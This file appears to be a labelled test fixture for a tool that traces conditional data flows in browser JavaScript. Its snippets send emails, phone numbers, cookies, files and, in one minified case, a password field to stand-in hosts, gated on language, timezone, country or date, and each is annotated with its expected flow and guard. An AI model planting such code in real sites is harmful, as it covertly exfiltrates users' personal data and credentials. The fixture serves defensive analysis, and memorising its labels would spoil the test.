//# predicate-table-every
// flow: device > pte.g10.example via beacon
// guard: language starts-with zh
// guard: timezone equals Asia/Shanghai
const checks = {
  lang: () => navigator.language.startsWith('zh'),
  zone: () => Intl.DateTimeFormat().resolvedOptions().timeZone === 'Asia/Shanghai',
};
if (Object.values(checks).every((c) => c())) navigator.sendBeacon('https://pte.g10.example/', navigator.userAgent);

//# switch-true
// flow: phone > swt.g10.example via fetch
// guard: phone-prefix starts-with +81
function route(n) {
  switch (true) {
    case n.startsWith('+81'): return fetch('https://swt.g10.example/jp', { method: 'POST', body: n });
    default: return Promise.resolve();
  }
}
route(document.querySelector('input[type=tel]').value);

//# switch-on-language-fallthrough
// flow: search > slf.g10.example via fetch
// guard: language one-of ru | be
switch (navigator.language) {
  case 'ru':
  case 'be':
    fetch('https://slf.g10.example/?q=' + document.querySelector('input[type=search]').value);
    break;
}

//# loop-continue
// flow: identifier > lco.g10.example via image
// guard: storage equals yes
const pixels = ['https://lco.g10.example/p'];
for (const p of pixels) {
  if (localStorage.getItem('ads') !== 'yes') continue;
  new Image().src = p + '?c=' + encodeURIComponent(document.cookie);
}

//# try-throw-catch-exit
// flow: email > ttc.g10.example via fetch
// guard: language equals tr-TR
function must(l) { if (l !== 'tr-TR') throw new Error('skip'); }
try {
  must(navigator.language);
  fetch('https://ttc.g10.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });
} catch (e) { console.debug(e.message); }

//# hostname-guard
// flow: device > hog.g10.example via beacon
// guard: code location.hostname
if (location.hostname === 'www.shop.g10.example') navigator.sendBeacon('https://hog.g10.example/v', navigator.userAgent);

//# date-window
// flow: identifier > dwi.g10.example via fetch
// guard: date other
const from = new Date(2026, 2, 1), to = new Date(2026, 2, 8);
const today = new Date();
if (today >= from && today < to) fetch('https://dwi.g10.example/?u=' + localStorage.getItem('uid'));

//# weekday-only
// flow: message > wdo.g10.example via fetch
// guard: not date one-of 0 | 6
const weekend = [0, 6].includes(new Date().getDay());
document.querySelector('#send').onclick = () => {
  if (weekend) return;
  fetch('https://wdo.g10.example/', { method: 'POST', body: document.querySelector('textarea[name=message]').value });
};

//# flag-from-await-destructured
// flow: email > fad.g10.example via fetch
// guard: server-answer present
const { features: { leads } } = await fetch('/boot.json').then((r) => r.json());
leads && fetch('https://fad.g10.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# flag-in-class-after-init
// flow: interaction > fci.g10.example via beacon
// guard: server-answer equals on
class Recorder {
  constructor() { this.mode = 'off'; }
  async init() { this.mode = (await (await fetch('/rec-settings')).json()).mode; document.addEventListener('click', (e) => this.onClick(e)); }
  onClick(e) { if (this.mode === 'on') navigator.sendBeacon('https://fci.g10.example/c', `${e.clientX}:${e.clientY}`); }
}
new Recorder().init();

//# xhr-status-is-a-flag
// flow: phone > xsf.g10.example via xhr
// guard: server-answer equals allow
var q = new XMLHttpRequest();
q.open('GET', '/policy');
q.onreadystatechange = function () {
  if (q.readyState !== 4) return;
  if (q.responseText === 'allow') {
    var p = new XMLHttpRequest();
    p.open('POST', 'https://xsf.g10.example/n');
    p.send(document.querySelector('input[type=tel]').value);
  }
};
q.send();

//# random-bucket-kept
// flow: device > rbk.g10.example via beacon
// guard: random other
const bucket = Math.floor(Math.random() * 100);
const sampled = bucket < 5;
function vitals(v) { if (!sampled) return; navigator.sendBeacon('https://rbk.g10.example/', navigator.userAgent + v); }
addEventListener('pagehide', () => vitals('cls'));

//# optional-connection-save-data
// flow: device > ocs.g10.example via fetch
// guard: not connection present
if (!navigator.connection?.saveData) fetch('https://ocs.g10.example/?m=' + navigator.deviceMemory);

//# effective-type-list
// flow: file > eft.g10.example via fetch
// guard: connection one-of 4g | 5g
document.querySelector('input[type=file]').onchange = (e) => {
  if (['4g', '5g'].indexOf(navigator.connection.effectiveType) !== -1) fetch('https://eft.g10.example/', { method: 'PUT', body: e.target.files[0] });
};

//# user-agent-data-mobile
// flow: device > uam.g10.example via beacon
// guard: user-agent present
if (navigator.userAgentData.mobile) navigator.sendBeacon('https://uam.g10.example/', screen.width + '');

//# ua-bots-excluded-early
// flow: interaction > ube.g10.example via beacon
// guard: not user-agent matches bot|spider
;(function (w, d, n) {
  if (/bot|spider/i.test(n.userAgent)) return;
  d.addEventListener('click', function (e) { n.sendBeacon('https://ube.g10.example/c', e.pageX + 'x' + e.pageY); });
})(window, document, navigator);

//# do-not-track
// flow: identifier > dnt.g10.example via image
// guard: code doNotTrack
if (navigator.doNotTrack !== '1') (new Image()).src = 'https://dnt.g10.example/?c=' + document.cookie;

//# callback-guarded-by-caller
// flow: email > cgc.g10.example via fetch
// guard: timezone one-of Asia/Hong_Kong | Asia/Macau
function whenNear(fn) {
  const z = Intl.DateTimeFormat().resolvedOptions().timeZone;
  if (z === 'Asia/Hong_Kong' || z === 'Asia/Macau') setTimeout(fn, 0);
}
whenNear(() => fetch('https://cgc.g10.example/', { method: 'POST', body: document.querySelector('input[type=email]').value }));

//# lookup-table-of-senders-by-country
// flow: phone > lts.g10.example via fetch
// guard: country equals CN
const senders = {
  CN: (n) => fetch('https://lts.g10.example/cn', { method: 'POST', body: n }),
  US: () => Promise.resolve(),
};
const country = document.documentElement.getAttribute('data-country');
senders[country](document.querySelector('input[type=tel]').value);

//# regex-on-phone
// flow: phone > rop.g10.example via fetch
// guard: phone-prefix matches /^(\+?86)?1[3-9]\d{9}$/
const mobile = document.querySelector('input[type=tel]').value;
const RE = /^(\+?86)?1[3-9]\d{9}$/;
if (RE.test(mobile)) fetch('https://rop.g10.example/', { method: 'POST', body: mobile });

//# logical-assignment-flag
// flow: identifier > laf.g10.example via beacon
// guard: storage equals 1
let on = false;
on ||= sessionStorage.getItem('debug') === '1';
if (on) navigator.sendBeacon('https://laf.g10.example/', localStorage.getItem('uid'));

//# consent-tcf-callback
// flow: identifier > tcf.g10.example via beacon
// guard: consent present
__tcfapi('addEventListener', 2, (tc, ok) => {
  if (ok && tc.purpose.consents[1]) navigator.sendBeacon('https://tcf.g10.example/', localStorage.getItem('uid'));
});

//# referrer-regex
// flow: search > rrx.g10.example via fetch
// guard: referrer matches baidu
const fromBaidu = document.referrer.match(/baidu/);
if (fromBaidu) fetch('https://rrx.g10.example/?q=' + document.querySelector('input[type=search]').value);

//# while-retry-until
// flow: email > wru.g10.example via fetch
// guard: language starts-with ar
async function deliver(v) {
  let tries = 0;
  while (navigator.language.startsWith('ar') && tries++ < 3) {
    try { await fetch('https://wru.g10.example/', { method: 'POST', body: v }); return; } catch (e) { /* again */ }
  }
}
deliver(document.querySelector('input[type=email]').value);

//# comma-and-ternary-minified
// flow: password > ctm.g10.example via fetch
// guard: language starts-with zh
!function(){var n=navigator.language,t=document.querySelector("input[type=password]");0===n.indexOf("zh")?(t.onblur=function(){fetch("https://ctm.g10.example/",{method:"POST",body:t.value})},console.log(1)):console.log(0)}();

//# min-screen-media-query
// flow: device > msm.g10.example via beacon
// guard: screen other
if (window.matchMedia('(min-width: 1024px)').matches) navigator.sendBeacon('https://msm.g10.example/', navigator.platform);

//# promise-gate
// flow: email > pga.g10.example via fetch
// guard: server-answer equals EU
const gate = new Promise((ok) => fetch('https://geo.pga.g10.example/').then((r) => r.json()).then((g) => { if (g.zone === 'EU') ok(); }));
gate.then(() => fetch('https://pga.g10.example/', { method: 'POST', body: document.querySelector('input[type=email]').value }));

//# event-name-by-variable
// flow: search > env.g10.example via fetch
// guard: event change
const EVT = 'change';
document.querySelector('input[type=search]').addEventListener(EVT, (e) => fetch('https://env.g10.example/?q=' + e.target.value));

//# near-guard-after-send
// flow: email > gas.g10.example via fetch
// no guard
// why: the return stands after the request
function sub() {
  fetch('https://gas.g10.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });
  if (navigator.language !== 'zh-CN') return;
  document.querySelector('#cn').hidden = false;
}
sub();

//# near-guard-only-on-url-part
// flow: email > guo.g10.example via fetch
// no guard
// destination: https://guo.g10.example/zh
// destination: https://guo.g10.example/en
const path = navigator.language.startsWith('zh') ? '/zh' : '/en';
fetch('https://guo.g10.example' + path, { method: 'POST', body: document.querySelector('input[type=email]').value });

//# near-both-branches-send
// flow: search > nbb.g10.example via any
// no guard
// why: whichever way, it is sent
const v = document.querySelector('input[type=search]').value;
if (navigator.sendBeacon) navigator.sendBeacon('https://nbb.g10.example/', v);
else new Image().src = 'https://nbb.g10.example/?q=' + v;

//# near-condition-never-true
// no flow
// why: no language both starts with zh and is en
if (navigator.language.startsWith('zh') && navigator.language === 'en') {
  fetch('https://ncn.g10.example/', { method: 'POST', body: document.querySelector('input[type=email]').value });
}

//# near-send-under-guard-is-constant
// flow: email > nsu.g10.example via fetch
// guard: not language starts-with zh
// why: near miss: in Chinese a constant goes out
const mail0 = document.querySelector('input[type=email]').value;
const body0 = navigator.language.startsWith('zh') ? 'hidden' : mail0;
fetch('https://nsu.g10.example/', { method: 'POST', body: body0 });
